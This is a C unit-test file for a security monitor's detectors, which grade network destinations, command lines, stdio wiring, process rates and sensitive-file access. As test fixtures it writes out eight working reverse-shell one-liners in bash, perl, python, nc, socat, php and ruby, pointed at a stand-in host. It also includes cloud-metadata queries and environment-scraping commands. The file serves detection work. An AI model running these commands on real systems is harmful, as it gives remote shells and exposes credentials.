/* The detectors' judgements (what ends up as findings in the audit log):
 * destinations, command lines, stdio structure, rates.  Benign developer
 * activity must produce no high or critical finding. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <arpa/inet.h>
#include <string.h>

#include "monitor/detect.h"
#include "monitor/fanwatch.h"
#include "monitor/pidset.h"
#include "monitor/threat.h"
#include "util/cleanup.h"

static uint32_t ip (const char *s)
{
  struct in_addr a;
  assert_int_equal (inet_pton (AF_INET, s, &a), 1);
  return ntohl (a.s_addr);
}

static struct coi_netview view (const char *mode)
{
  struct coi_netview v;
  coi_error_t err = NULL;
  assert_int_equal (coi_netview_init (&v, mode, &err), 0);
  v.self = ip ("10.201.77.50");
  v.gateway = ip ("10.201.77.1");
  return v;
}

static int level (struct coi_verdict v)
{
  return v.level;
}

/* Rejects the firewall logged: nothing got through, so only intent counts. */
static void test_blocked (void **state)
{
  (void) state;
  struct coi_netview r = view ("restricted"), a = view ("allowlist");
  struct coi_verdict v = coi_judge_blocked (&r, "metadata", IPPROTO_TCP, ip ("169.254.169.254"), 80);
  assert_int_equal (v.level, COI_LEVEL_CRITICAL);
  assert_string_equal (v.rule, "metadata");
  assert_int_equal (level (coi_judge_blocked (&r, "metadata", IPPROTO_ICMP, ip ("169.254.169.254"), 0)),
                    COI_LEVEL_CRITICAL);
  v = coi_judge_blocked (&r, "private", IPPROTO_TCP, ip ("10.77.0.10"), 80);
  assert_int_equal (v.level, COI_LEVEL_HIGH);
  assert_string_equal (v.rule, "blocked-private");
  assert_int_equal (level (coi_judge_blocked (&r, "host", IPPROTO_TCP, ip ("10.201.77.1"), 22)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_blocked (&r, "bridge", IPPROTO_TCP, ip ("10.201.77.9"), 22)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_blocked (&r, "metadata", IPPROTO_TCP, ip ("169.254.1.1"), 80)), COI_LEVEL_HIGH);
  /* Datagrams into the LAN are often the OS's own. */
  assert_int_equal (level (coi_judge_blocked (&r, "private", IPPROTO_UDP, ip ("10.77.0.10"), 137)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_blocked (&r, "host", IPPROTO_UDP, ip ("10.201.77.1"), 123)), -1);
  assert_int_equal (level (coi_judge_blocked (&r, "host", IPPROTO_UDP, ip ("224.0.0.251"), 5353)), -1);
  assert_int_equal (level (coi_judge_blocked (&r, "host", IPPROTO_UDP, ip ("255.255.255.255"), 67)), -1);
  /* Allowlist: an unlisted host is a warning, never a pause. */
  v = coi_judge_blocked (&a, "allowlist", IPPROTO_TCP, ip ("198.51.100.66"), 443);
  assert_int_equal (v.level, COI_LEVEL_WARNING);
  assert_string_equal (v.rule, "blocked-allowlist");
  assert_int_equal (level (coi_judge_blocked (&a, "private", IPPROTO_TCP, ip ("192.168.77.10"), 80)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_blocked (&r, "port", IPPROTO_TCP, ip ("198.51.100.10"), 8080)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_blocked (&r, "port", IPPROTO_TCP, ip ("198.51.100.10"), 4444)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_blocked (&r, "dns", IPPROTO_UDP, ip ("198.51.100.53"), 53)), COI_LEVEL_WARNING);
}

static void test_destinations (void **state)
{
  (void) state;
  struct coi_netview r = view ("restricted"), o = view ("open"), a = view ("allowlist");
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("169.254.169.254"), 80)), COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("169.254.169.254"), 80)), COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("127.0.0.1"), 4444)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("10.201.77.1"), 53)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("10.201.77.1"), 22)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("10.201.77.1"), 22)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("192.168.1.5"), 443)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("192.168.1.5"), 443)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("169.254.1.1"), 80)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_dest_v4 (&r, IPPROTO_TCP, ip ("224.0.0.251"), 5353)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&a, IPPROTO_TCP, ip ("198.51.100.7"), 443)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&a, IPPROTO_TCP, ip ("198.51.100.200"), 443)), -1);
  /* Seen means let through (a learned address): the firewall judged it. */
  assert_int_equal (level (coi_judge_dest_v4 (&a, IPPROTO_TCP, ip ("198.51.100.8"), 443)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&a, IPPROTO_TCP, ip ("10.1.2.3"), 443)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("198.51.100.8"), 4444)), COI_LEVEL_HIGH);
  /* Dev servers are not suspicious (COI flagged 8080). */
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("198.51.100.8"), 8080)), -1);
  assert_int_equal (level (coi_judge_dest_v4 (&o, IPPROTO_TCP, ip ("198.51.100.8"), 443)), -1);
  /* conntrack: replies seen as new after a flush are not the container's doing. */
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_UDP, ip ("10.201.77.1"), 53, 56976)), -1);
  /* Datagrams to the host or a private network: a warning, not a pause. */
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_UDP, ip ("10.201.77.1"), 40000, 1900)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_UDP, ip ("10.201.77.1"), 40000, 5355)), -1);
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_UDP, ip ("192.168.1.5"), 40000, 9999)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_flow (&o, IPPROTO_UDP, ip ("198.51.100.8"), 40000, 4444)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_flow (&o, IPPROTO_UDP, ip ("169.254.169.254"), 40000, 53)), COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_TCP, ip ("10.201.77.1"), 40000, 56976)), -1);
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_TCP, ip ("10.201.77.1"), 40000, 22)), COI_LEVEL_HIGH);
  assert_int_equal (level (coi_judge_flow (&r, IPPROTO_TCP, ip ("192.168.1.5"), 80, 40000)), -1);
  assert_int_equal (level (coi_judge_flow (&o, IPPROTO_TCP, ip ("169.254.169.254"), 80, 40000)), COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_flow (&o, IPPROTO_TCP, ip ("198.51.100.8"), 40000, 4444)), COI_LEVEL_HIGH);
  struct coi_netview bad;
  coi_error_t err = NULL;
  assert_int_equal (coi_netview_init (&bad, "wide-open", &err), -1);
  coi_error_release (&err);
}

static void test_reverse_shell_command_lines (void **state)
{
  (void) state;
  static const char *const attacks[] = {
    "bash -c bash -i >& /dev/tcp/198.51.100.144/4444 0>&1",
    "perl -e use Socket;$i=\"198.51.100.144\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
    "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.144\",4444));os.dup2(s.fileno(),0)",
    "nc -e /bin/sh 198.51.100.144 4444",
    "socat tcp:198.51.100.144:4444 exec:bash,pty,stderr",
    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.144 4444 >/tmp/f",
    "php -r $sock=fsockopen(\"198.51.100.144\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
    "ruby -rsocket -e f=TCPSocket.open(\"198.51.100.144\",4444).to_i",
  };
  for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
    {
      struct coi_verdict v = coi_judge_cmdline ("x", attacks[i], false);
      if (v.level != COI_LEVEL_HIGH || strcmp (v.rule, "reverse-shell-pattern") != 0)
        fail_msg ("not suspected: %s", attacks[i]);
    }
}

static void test_metadata_and_env_command_lines (void **state)
{
  (void) state;
  assert_int_equal (level (coi_judge_cmdline ("curl", "curl -s http://169.254.169.254/latest/meta-data/", false)),
                    COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_cmdline ("bash", "bash -c exec 3<>/dev/tcp/169.254.169.254/80", false)),
                    COI_LEVEL_CRITICAL);
  assert_int_equal (level (coi_judge_cmdline ("grep", "grep -r 169.254.169.254 docs/", false)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_cmdline ("env", "env", false)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_cmdline ("printenv", "printenv", false)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_cmdline ("cat", "cat /proc/1/environ", false)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_cmdline ("grep", "grep -i token", true)), COI_LEVEL_WARNING);
  assert_int_equal (level (coi_judge_cmdline ("python3", "python3 -c import os; print(os.environ)", false)),
                    COI_LEVEL_WARNING);
  /* Not scraping: env running a program, grep of source files. */
  assert_int_equal (level (coi_judge_cmdline ("env", "env FOO=1 make", false)), -1);
  assert_int_equal (level (coi_judge_cmdline ("env", "/usr/bin/env bash ./configure", false)), -1);
  assert_int_equal (level (coi_judge_cmdline ("grep", "grep -rn API_KEY src/", false)), -1);
}

static void test_benign_command_lines (void **state)
{
  (void) state;
  static const char *const benign[][2] = {
    { "gcc", "gcc -O2 -Wall -c main.c -o main.o" },
    { "make", "make -j2" },
    { "git", "git clone /workspace/repo.git copy" },
    { "git", "git commit -m fix: socket connect timeout" },
    { "npm", "npm install --registry http://127.0.0.1:4873" },
    { "python3", "python3 -m http.server 8080" },
    { "curl", "curl -s http://127.0.0.1:8080/" },
    { "bash", "bash -c echo > /dev/tcp/127.0.0.1/8080" },
    { "bash", "bash -i" },
    { "tmux", "tmux new-session -d -s coi-x" },
    { "node", "node server.js" },
    { "ssh", "ssh -T git@198.51.100.9" },
  };
  for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++)
    {
      struct coi_verdict v = coi_judge_cmdline (benign[i][0], benign[i][1], false);
      if (v.level >= COI_LEVEL_HIGH)
        fail_msg ("flagged %s: %s", v.rule, benign[i][1]);
    }
}

static struct coi_sock sock (unsigned long ino, const char *dst, uint16_t dport, uint8_t state)
{
  struct coi_sock k = { .ino = ino, .family = AF_INET, .protocol = IPPROTO_TCP, .state = state, .sport = 40000,
                        .dport = dport };
  k.dst.s6_addr[10] = k.dst.s6_addr[11] = 0xff;
  uint32_t be = htonl (ip (dst));
  memcpy (&k.dst.s6_addr[12], &be, 4);
  return k;
}

static struct coi_proc proc (const char *comm, enum coi_fd_kind k0, unsigned long ino)
{
  struct coi_proc p = { .pid = 100, .ppid = 1 };
  snprintf (p.comm, sizeof p.comm, "%s", comm);
  snprintf (p.exe, sizeof p.exe, "%s", comm);
  p.stdio[0] = (struct coi_fd_ref) { k0, ino, -1, -1 };
  p.stdio[1] = (struct coi_fd_ref) { k0, ino, -1, -1 };
  p.stdio[2] = (struct coi_fd_ref) { COI_FD_PTS, 0, 0, -1 };
  return p;
}

static void test_stdio_structure (void **state)
{
  (void) state;
  struct coi_sock v[] = { sock (11, "198.51.100.144", 4444, 1), sock (12, "127.0.0.1", 8080, 1),
                          sock (13, "0.0.0.0", 0, 10) };
  struct coi_socktab t = { v, 3, 3 };
  const struct coi_sock *k = NULL;
  int fd = -1;
  struct coi_proc p = proc ("bash", COI_FD_SOCKET, 11);
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), COI_LEVEL_CRITICAL);
  assert_int_equal (k->ino, 11);
  assert_int_equal (fd, 0);
  p = proc ("python3.11", COI_FD_SOCKET, 11);
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), COI_LEVEL_CRITICAL);
  p = proc ("sh", COI_FD_SOCKET, 12);
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), COI_LEVEL_HIGH);
  p = proc ("bash", COI_FD_SOCKET, 13); /* a listener: inetd-style setup, not a connection */
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  p = proc ("bash", COI_FD_SOCKET, 99); /* not an inet socket (journald's stream) */
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  p = proc ("curl", COI_FD_SOCKET, 11); /* not a shell, stdin alone on the socket */
  p.stdio[1] = (struct coi_fd_ref) { COI_FD_PIPE, 5, -1, -1 };
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  p = proc ("bash", COI_FD_PIPE, 11);
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  struct coi_proc n = { 0 };
  snprintf (n.comm, sizeof n.comm, "shred");
  assert_false (coi_proc_is_shell (&n));
  snprintf (n.comm, sizeof n.comm, "perl5.36.0");
  assert_true (coi_proc_is_shell (&n));
  snprintf (n.comm, sizeof n.comm, "socat");
  assert_true (coi_proc_is_relay (&n));
}

/* Rule A judges what a process is and does, not what it is called. */
static void test_stdio_identity (void **state)
{
  (void) state;
  struct coi_sock v[] = { sock (11, "198.51.100.144", 443, 1), sock (12, "127.0.0.1", 8080, 1),
                          sock (13, "198.51.100.20", 5000, 1), sock (14, "0.0.0.0", 0, 10),
                          sock (15, "198.51.100.144", 443, 2) };
  v[2].sport = 22; /* accepted by the listener on :22 */
  v[3].sport = 22;
  struct coi_socktab t = { v, 5, 5 };
  const struct coi_sock *k = NULL;
  int fd = -1;

  /* A copy of bash named kworker: its name says nothing, its identity does. */
  struct coi_proc p = proc ("kworker", COI_FD_SOCKET, 11);
  p.stdio[1] = (struct coi_fd_ref) { COI_FD_PIPE, 5, -1, -1 };
  p.stdio[0].inet = 1;
  assert_false (coi_proc_is_shell (&p));
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  snprintf (p.same_as, sizeof p.same_as, "/usr/bin/bash");
  assert_true (coi_proc_is_shell (&p));
  struct coi_verdict r = coi_judge_stdio (&p, &t, &k, &fd);
  assert_int_equal (r.level, COI_LEVEL_CRITICAL);
  assert_string_equal (r.rule, "reverse-shell");
  assert_int_equal (k->ino, 11);
  assert_int_equal (fd, 0);
  /* Connecting (SYN_SENT) counts as well. */
  p.stdio[0].ino = 15;
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), COI_LEVEL_CRITICAL);
  /* The same program on loopback: high, as for a shell by name. */
  p.stdio[0].ino = 12;
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), COI_LEVEL_HIGH);
  /* A unix socket (journald) with an inode that collides with an inet one. */
  p.stdio[0] = (struct coi_fd_ref) { COI_FD_SOCKET, 11, -1, 0 };
  assert_int_equal (level (coi_judge_stdio (&p, &t, &k, &fd)), -1);
  assert_false (coi_stdio_connected (&p, &t));

  /* Unknown program: stdin and stdout on one connection it opened to a
   * remote peer is the shape of a reverse shell (a patched copy). */
  struct coi_proc o = proc ("kworker", COI_FD_SOCKET, 11);
  assert_true (coi_stdio_connected (&o, &t));
  r = coi_judge_stdio (&o, &t, &k, &fd);
  assert_int_equal (r.level, COI_LEVEL_HIGH);
  assert_string_equal (r.rule, "network-stdio");
  o.stdio[1] = (struct coi_fd_ref) { COI_FD_PTS, 0, 0, -1 };
  o.stdio[2] = (struct coi_fd_ref) { COI_FD_SOCKET, 11, -1, 1 };
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), COI_LEVEL_HIGH);
  /* ... but not stdin alone (`tar x </dev/tcp/host/port`), */
  o.stdio[2] = (struct coi_fd_ref) { COI_FD_PTS, 0, 0, -1 };
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  /* not a server's accepted connection (inetd, socket activation), */
  o = proc ("in.telnetd", COI_FD_SOCKET, 13);
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  /* not a loopback peer (a dev server's helper), */
  o = proc ("worker", COI_FD_SOCKET, 12);
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  /* not two different sockets, not a listener, not a pipe or a terminal. */
  o = proc ("worker", COI_FD_SOCKET, 11);
  o.stdio[1].ino = 15;
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  o = proc ("worker", COI_FD_SOCKET, 14);
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  o = proc ("node", COI_FD_PTS, 0); /* the agent under tmux */
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  o = proc ("npm", COI_FD_PIPE, 7);
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), -1);
  /* A shell by name keeps the stricter rule: any connected socket on stdio. */
  o = proc ("bash", COI_FD_SOCKET, 13);
  assert_int_equal (level (coi_judge_stdio (&o, &t, &k, &fd)), COI_LEVEL_CRITICAL);

  assert_true (coi_sock_accepted (&t, &v[2]));
  assert_false (coi_sock_accepted (&t, &v[0]));
  assert_false (coi_sock_accepted (&t, &v[3]));
  assert_true (coi_name_is_shell ("python3.11"));
  assert_false (coi_name_is_shell ("kworker"));
}

static void test_rates (void **state)
{
  (void) state;
  struct coi_monitor_settings s;
  coi_monitor_settings_defaults (&s);
  struct coi_rate_state st = { 0 };
  struct coi_verdict v[5];
  /* A configure script: many short processes, few alive. */
  struct coi_rates r = { .interval_s = 2, .processes = 12, .spawned = 400 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 0);
  /* A fork bomb: many spawned and many alive. */
  r = (struct coi_rates) { .interval_s = 2, .processes = 180, .spawned = 170 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_string_equal (v[0].rule, "fork-bomb");
  assert_int_equal (v[0].level, COI_LEVEL_CRITICAL);
  /* ...or one held down by max_processes: forks keep failing. */
  r = (struct coi_rates) { .interval_s = 2, .processes = 64, .spawned = 0, .fork_failures = 5000 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_string_equal (v[0].rule, "fork-bomb");
  r = (struct coi_rates) { .interval_s = 2, .processes = 150, .spawned = 3 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_int_equal (v[0].level, COI_LEVEL_WARNING);
  /* 60 MB read in one interval: over the 50 MB threshold. */
  r = (struct coi_rates) { .interval_s = 2, .processes = 5, .read_bytes = 60ull << 20 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_string_equal (v[0].rule, "file-read");
  /* A write burst over the rate must last COI_RATE_SUSTAIN intervals. */
  memset (&st, 0, sizeof st);
  r = (struct coi_rates) { .interval_s = 2, .processes = 5, .write_bytes = 30ull << 20 };
  for (int i = 1; i < COI_RATE_SUSTAIN; i++)
    assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 0);
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_string_equal (v[0].rule, "file-write");
  r = (struct coi_rates) { .interval_s = 2, .processes = 5, .egress_bytes = 300ull << 20 };
  assert_int_equal (coi_judge_rates (&s, &st, &r, v, 5), 1);
  assert_string_equal (v[0].rule, "egress");
}

static void test_sensitive_paths_and_pidset (void **state)
{
  (void) state;
  assert_true (coi_fanwatch_is_sensitive ("/etc/shadow"));
  assert_true (coi_fanwatch_is_sensitive ("/etc/sudoers.d/90-code"));
  assert_true (coi_fanwatch_is_sensitive ("/home/code/.ssh/authorized_keys"));
  assert_true (coi_fanwatch_is_sensitive ("/root/.ssh/id_ed25519"));
  assert_false (coi_fanwatch_is_sensitive ("/home/code/.ssh/known_hosts"));
  assert_false (coi_fanwatch_is_sensitive ("/etc/passwd"));
  struct coi_pidset s = { 0 };
  for (pid_t p = 1; p < 5000; p++)
    assert_int_equal (coi_pidset_add (&s, p), 0);
  for (pid_t p = 1; p < 5000; p += 2)
    coi_pidset_del (&s, p);
  assert_false (coi_pidset_has (&s, 3));
  assert_true (coi_pidset_has (&s, 4));
  assert_int_equal (s.live, 2499);
  coi_pidset_reset (&s);
  assert_false (coi_pidset_has (&s, 4));
  coi_pidset_free (&s);
}

int main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_destinations),
    cmocka_unit_test (test_blocked),
    cmocka_unit_test (test_reverse_shell_command_lines),
    cmocka_unit_test (test_metadata_and_env_command_lines),
    cmocka_unit_test (test_benign_command_lines),
    cmocka_unit_test (test_stdio_structure),
    cmocka_unit_test (test_stdio_identity),
    cmocka_unit_test (test_rates),
    cmocka_unit_test (test_sensitive_paths_and_pidset),
  };
  return cmocka_run_group_tests (tests, NULL, NULL);
}
